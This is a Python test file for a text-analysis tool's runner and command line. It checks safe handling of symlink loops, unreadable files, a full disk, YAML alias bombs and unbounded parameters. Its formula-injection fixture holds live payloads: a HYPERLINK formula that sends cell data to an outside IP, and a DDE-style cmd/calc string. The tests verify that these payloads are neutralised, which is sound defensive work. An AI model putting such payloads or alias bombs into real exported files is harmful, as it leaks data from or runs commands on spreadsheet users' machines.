"""Hostile and broken input at the runner and the command line: each ends with the promised message or skip,
in bounded time and memory, and nothing earlier is lost (issue 11's catalogue, the runner's part)."""
from __future__ import annotations

import errno
import json
import math
import os
import shutil

import pandas as pd
import pytest
from conftest import FIXTURE_NOTEBOOKS, needs_suite, run_cli, write_article

import analysis.report.run.manifest as run_manifest
from analysis.__main__ import main
from analysis.csvio import neutralise_csv_file, write_csv
from analysis.errors import ParameterError
from analysis.paths import NOTEBOOKS_DIR, SEED_ARTICLES
from analysis.report.run.params import coerce, parse_assignment, read_params_file
from analysis.report.run.runner import RunOptions, list_reports, plan, run_report, suite

#: A "billion laughs": nine levels of nine aliases stand for 9**9 (387 million) values.
ALIAS_BOMB = "\n".join(["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"] + [
    f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)] + ["top_n: *a8", ""])


def seeds_with(folder, **extra_files):
    shutil.copytree(SEED_ARTICLES, folder)
    for name, target in extra_files.items():
        os.symlink(target, folder / name)
    return folder


# --- 2: a file that cannot be read never throws away a finished report ------------------------------------


@pytest.mark.slow
def test_a_symlink_loop_in_the_corpus_is_skipped_and_the_report_published(tmp_path):
    corpus = seeds_with(tmp_path / "articles", **{"loop.txt": "loop.txt", "ring1.txt": "ring2.txt",
                                                  "ring2.txt": "ring1.txt"})
    done = run_cli("report", "--corpus", str(corpus), "--out", str(tmp_path / "reports"), "--notebook-dir",
                   str(FIXTURE_NOTEBOOKS), "--notebooks", "01")
    assert done.returncode == 0, done.stderr
    [report] = list_reports(tmp_path / "reports")
    manifest = json.loads((report / "manifest.json").read_text(encoding="utf-8"))
    seeds = sorted(p.name for p in SEED_ARTICLES.glob("*.txt"))
    assert sorted(i["path"] for i in manifest["inputs"]) == seeds
    skipped = {os.path.basename(p["path"]): p["message"] for p in manifest["skipped"]}
    assert set(skipped) == {"loop.txt", "ring1.txt", "ring2.txt"}
    assert all("symbolic link" in m for m in skipped.values())
    assert "skipped: " + skipped["loop.txt"] in done.stdout


@pytest.mark.slow
def test_a_file_that_cannot_be_read_again_for_its_digest_does_not_stop_the_run(tmp_path, monkeypatch):
    real = run_manifest.file_digest

    def refusing(path):
        if str(path).endswith("official_framing.txt"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(run_manifest, "file_digest", refusing)
    report = run_report(RunOptions(out=str(tmp_path), notebook_dir=str(FIXTURE_NOTEBOOKS), notebooks=("01",)))
    inputs = {i["path"]: i for i in json.loads((report / "manifest.json").read_text())["inputs"]}
    assert inputs["official_framing.txt"]["sha256"] is None
    assert inputs["official_framing.txt"]["error"] == "Permission denied"
    assert len(inputs["original_4fd01be5.txt"]["sha256"]) == 64
    assert "could not be read again for its digest (Permission denied)" in (report / "run.log").read_text()


# --- 3: spreadsheet formula injection ---------------------------------------------------------------------


FORMULAS = {"title": '=HYPERLINK("http://203.0.113.9/?"&A1,"open")', "outlet": "@SUM(1+1)*cmd|' /C calc'!A0",
            "label": "+1-2", "story": "-2+3"}


def test_csv_writer_neutralises_formula_cells_and_headers_but_not_numbers(tmp_path):
    frame = pd.DataFrame({"=cmd": ["=1+1", "plain", "@x", "+y", "-z"], "rate": [-0.25, 1.0, 2.0, -3.0, 0.0]})
    text = write_csv(frame, tmp_path / "t.csv").read_text(encoding="utf-8")
    assert text.splitlines() == ["'=cmd,rate", "'=1+1,-0.25", "plain,1.0", "'@x,2.0", "'+y,-3.0", "'-z,0.0"]
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]  # no temporary file left
    frame.to_csv(tmp_path / "other.csv", index=False)  # a CSV another writer made
    assert neutralise_csv_file(tmp_path / "other.csv") is True
    assert (tmp_path / "other.csv").read_text(encoding="utf-8") == text
    assert neutralise_csv_file(tmp_path / "other.csv") is False  # already safe: left as it is


@pytest.mark.slow
def test_analyze_and_report_tables_neutralise_formulas_from_article_metadata(tmp_path):
    corpus = tmp_path / "articles"
    write_article(corpus / "a.md", dict(FORMULAS, id="=evil()"),
                  "US officials said the regime would stay. Critics called it an illegal occupation.\n")
    done = run_cli("analyze", str(corpus), "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    report = run_report(RunOptions(corpus=str(corpus), out=str(tmp_path / "reports"),
                                   notebook_dir=str(FIXTURE_NOTEBOOKS), notebooks=("01",)))
    for table in (tmp_path / "out" / "articles.csv", report / "tables" / "articles.csv"):
        row = pd.read_csv(table, keep_default_na=False).iloc[0]
        assert row["article_id"] == "'=evil()"
        for field, value in FORMULAS.items():
            assert row[field] == "'" + value, (table, field)
    for table in [*(tmp_path / "out").glob("*.csv"), *(report / "tables").glob("*.csv")]:
        frame = pd.read_csv(table, dtype=str, keep_default_na=False)
        cells = [str(c) for c in frame.columns] + [v for col in frame.columns for v in frame[col]
                                                  if not _number(v)]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], table.name


def _number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def test_analyze_leaves_no_truncated_file_when_the_disk_fills(tmp_path, monkeypatch, capsys):
    corpus = tmp_path / "articles"
    shutil.copytree(SEED_ARTICLES, corpus)
    out = tmp_path / "out"
    out.mkdir()
    (out / "matches.csv").write_text("an earlier table\n", encoding="utf-8")
    real = pd.DataFrame.to_csv

    def fills_up(self, path, *args, **kwargs):
        if "matches" in str(path):
            with open(path, "w") as fh:
                fh.write("article_id,sta")  # half a line, then the disk is full
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, path, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_csv", fills_up)
    assert main(["analyze", str(corpus), "--out", str(out), "--quiet"]) == 4
    assert "No space left on device" in capsys.readouterr().err
    assert (out / "matches.csv").read_text(encoding="utf-8") == "an earlier table\n"
    assert not [p.name for p in out.iterdir() if p.name.endswith(".part")]


# --- 4: YAML alias bombs in --params and -p ---------------------------------------------------------------


def test_an_alias_bomb_in_a_params_file_is_refused_without_expanding_it(tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(ALIAS_BOMB, encoding="utf-8")
    with pytest.raises(ParameterError) as err:
        read_params_file(path)
    message = str(err.value)
    assert f"{path}, line 1 uses a YAML anchor or alias" in message and "write each value out" in message
    assert len(message) < 300 and "lol" not in message


def test_an_alias_bomb_given_with_p_stays_text_and_the_error_shows_only_its_start(tmp_path, capsys):
    one_line = "[" + ", ".join(["&a [x, x, x, x, x, x, x, x, x]"] + ["*a"] * 40) + "]"
    name, value = parse_assignment(f"top_n={one_line}")
    assert (name, value) == ("top_n", one_line)  # never built into a structure
    with pytest.raises(ParameterError) as err:
        coerce("top_n", value, "int")
    assert len(str(err.value)) < 200 and "a whole number" in str(err.value)
    assert main(["report", "--out", str(tmp_path), "--notebook-dir", str(FIXTURE_NOTEBOOKS),
                 "-p", f"top_n={one_line}"]) == 2
    assert len(capsys.readouterr().err) < 300 and list(tmp_path.iterdir()) == []


def test_long_values_are_cut_in_error_messages():
    with pytest.raises(ParameterError) as err:
        coerce("top_n", "9" * 5_000_000 + "x", "int")
    assert len(str(err.value)) < 200


# --- 13: values that must be refused ------------------------------------------------------------------------


@pytest.mark.parametrize("text, accepts", [
    ("disagreement=.nan", "a number (not .nan or .inf)"),
    ("disagreement=.inf", "a number (not .nan or .inf)"),
    ("disagreement=nan", "a number (not .nan or .inf)"),
    ("n_boot=100000000", "a number from 100 to 50,000"),
    ("n_boot=50001", "a number from 100 to 50,000"),
    ("n_boot=99", "a number from 100 to 50,000"),
])
def test_nan_thresholds_and_unbounded_resamples_are_refused_before_the_run(text, accepts):
    needs_suite()
    name, value = parse_assignment(text)
    options = RunOptions(params={name: value}, notebook_dir=str(NOTEBOOKS_DIR))
    with pytest.raises(ParameterError) as err:
        plan(options, suite(options))
    assert f"parameter {name!r}: got" in str(err.value) and accepts in str(err.value)


def test_the_largest_allowed_resample_count_is_accepted():
    needs_suite()
    options = RunOptions(params={"n_boot": 50_000, "disagreement": 0.3}, notebook_dir=str(NOTEBOOKS_DIR))
    values = plan(options, suite(options))
    assert values["04_comparison_report"]["n_boot"] == 50_000
    assert values["02_sentiment"]["disagreement"] == 0.3
